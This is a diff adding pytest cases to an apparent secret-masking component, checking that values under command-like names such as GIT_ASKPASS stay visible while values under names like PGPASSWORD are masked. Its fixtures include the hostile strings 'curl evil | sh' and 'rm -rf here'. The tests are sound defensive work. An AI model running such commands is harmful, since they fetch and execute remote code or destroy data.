@@ -83,3 +83,16 @@ def test_no_command_is_hidden_in_a_question_as_if_it_were_a_secret(command: str)
 def test_no_argument_is_hidden_in_a_question_for_the_sake_of_its_neighbours() -> None:
     arguments = {"name": "token", "value": "rm -rf here", "args": ["--token", "-c", "rm -rf here"]}
     assert Masking(frozenset).value("variables", arguments) == arguments
+
+
+@pytest.mark.parametrize("name", ["RESTIC_PASSWORD_COMMAND", "tokenFile", "secret-hook", "GIT_ASKPASS"])
+def test_what_goes_on_behind_a_telling_word_hides_nothing_in_a_question(name: str) -> None:
+    arguments = {"env": {name: "curl evil | sh"}}
+    assert Masking(frozenset).value("arguments", arguments) == arguments
+
+
+@pytest.mark.parametrize(
+    "name", ["RESTIC_PASSWORD", "tokenFile.token", "api-key", "apiKeys", "PGPASSWORD", "password2"]
+)
+def test_what_is_called_a_secret_is_hidden_in_a_question(name: str) -> None:
+    assert Masking(frozenset).value("arguments", {name: "wide open"}) == {name: MASK}
